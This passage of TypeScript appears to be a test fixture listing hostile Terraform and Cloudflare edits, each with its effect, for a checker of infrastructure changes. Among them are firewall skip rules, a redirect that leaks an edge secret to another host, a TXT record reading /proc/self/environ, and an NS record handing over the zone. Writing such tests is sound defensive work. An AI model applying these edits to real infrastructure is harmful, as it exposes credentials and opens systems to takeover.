        for (const rule of which === "all" ? rules : rules.slice(0, 1)) rule["enabled"] = false;
      },
    })),
  ),
];

const REDIRECT = "http_request_dynamic_redirect";
const CUSTOM = "http_request_firewall_custom";
const WWW = 'http.request.full_uri wildcard r"https://www.*"';

const to = (value: string): JsonTree => ({
  action_parameters: { from_value: { status_code: 301, target_url: { value } } },
});
const SKIP = { action_parameters: { ruleset: "current" } };

const bareRecord = (members: JsonTree): JsonTree => ({
  ...{ zone_id: ZONE, type: "A", name: "docs", content: "198.51.100.9", proxied: false, ttl: 1 },
  ...members,
});
const addRecord = (members: JsonTree, why: string): Edit => add(RECORD, bareRecord(members), why);
const wwwRedirect = inPhase(REDIRECT, "first", rule(WWW, "redirect", to("https://example.com/")), "it is a bait");
const docs: Edit = {
  what: "publish docs",
  why: "it is a bait",
  change: (folder) => void merge(stackIn(folder).json, { resource: { [RECORD]: { Docs: bareRecord({}) } } }),
};

/** Edits near those that an acceptance is for, or hidden behind one of these. */
const NEAR_ACCEPTANCE: readonly Edit[] = [
  ...[
    'http.request.full_uri wildcard r"https://app.*"',
    'http.request.full_uri wildcard r"*"',
    'http.request.full_uri wildcard r"https://APP.EXAMPLE.COM/*"',
    `not ${WWW}`,
    `${WWW} or http.request.full_uri wildcard r"https://a*"`,
    `${WWW} xor ssl`,
    'http.request.full_uri contains "example"',
    'http.request.headers["x"][0] eq "1"',
    "${var.condition}",
  ].map((expression) =>
    inPhase(
      REDIRECT,
      "first",
      rule(expression, "redirect", to("https://example.edu/")),
      "requests for a host of the policy may be sent elsewhere, on any port",
    ),
  ),
  inPhase(CUSTOM, "first", rule(WWW, "skip", SKIP), "requests may go past the guards"),
  inPhase(CUSTOM, "first", rule(WWW, "execute", { action_parameters: { id: "x" } }), "other rules may run"),
  inPhase(
    CUSTOM,
    "first",
    rule('http.request.full_uri wildcard r"*/webhooks/*"', "block"),
    "it may keep Meta's own requests out",
  ),
  inPhase(
    REDIRECT,
    "last",
    rule(WWW, "redirect", to(`https://example.edu/\${${SECRET}}`)),
    "others read the edge's secret in the answer",
  ),
  together(
    "skip behind a redirect",
    "the skip lets requests past the guards, whatever the redirect does",
    wwwRedirect,
    inPhase(CUSTOM, "first", rule("true", "skip", { ...SKIP, ref: "open" }), ""),
  ),
  together(
    "skip under the same name as a redirect",
    "an acceptance of the one is none of the other",
    wwwRedirect,
    inPhase(CUSTOM, "first", rule(WWW, "skip", SKIP), ""),
  ),
  together(
    "publish a host behind another record",
    "the host is published past the edge, whatever the other record leads to",
    docs,
    addRecord({ name: HOST }, ""),
  ),
  together("publish docs and redirect www", "each has its own question", docs, wwwRedirect),
  together("publish docs and run a program", "a program may do anything", docs, {
    what: "run a program",
    why: "",
    change: (folder) =>
      void merge(
        stackIn(folder).json,
        resource("null_resource", { provisioner: [{ "local-exec": { command: "x" } }] }),
      ),
  }),
  addRecord({ content: "${var.target}" }, "only the apply knows where it leads, which may be to an origin"),
  addRecord({ type: "${var.type}" }, "only the apply knows what it publishes"),
  addRecord({ name: "*" }, "it publishes each host that has no record"),
  ...["name", "type", "all"].map((member) =>
    addRecord(
      { proxied: true, lifecycle: { ignore_changes: member === "all" ? member : [member] } },
      "others may rename it to a host of the policy, and Terraform leaves it so",
    ),
  ),
  addRecord({ type: "NS", name: "@", content: "ns1.example.edu" }, "it hands the whole zone to others"),
  addRecord(
    { for_each: { a: "app", b: "docs" }, name: "${each.value}" },
    "it publishes a host past the edge under a name that a loop gives",
  ),
  addRecord({ count: "${var.count}", name: HOST }, "it publishes the host past the edge, as often as others say"),
  addRecord({ content: `\${file("/proc/self/environ")}`, type: "TXT" }, "others read every credential there"),
  addRecord(
    { type: "CNAME", content: "example-production.onrender.com", lifecycle: { ignore_changes: ["content"] } },
    "it publishes the origin past the edge",
  ),
];

/** Edits that open or disable something, each with its effect. */
export const HOSTILE: Readonly<Record<string, readonly Edit[]>> = {
  identity: IDENTITY,
  secrets: SECRETS,
  "generated secrets": GENERATED,
  resources: RESOURCES,
  programs: PROGRAMS,
  "meta-arguments": META_ARGUMENTS,
  state: STATE,
  files: FILES,
  stacks: STACKS,
  modelled: MODELLED,
  "what stands near an acceptance": NEAR_ACCEPTANCE,
  ...DISGUISED,
};
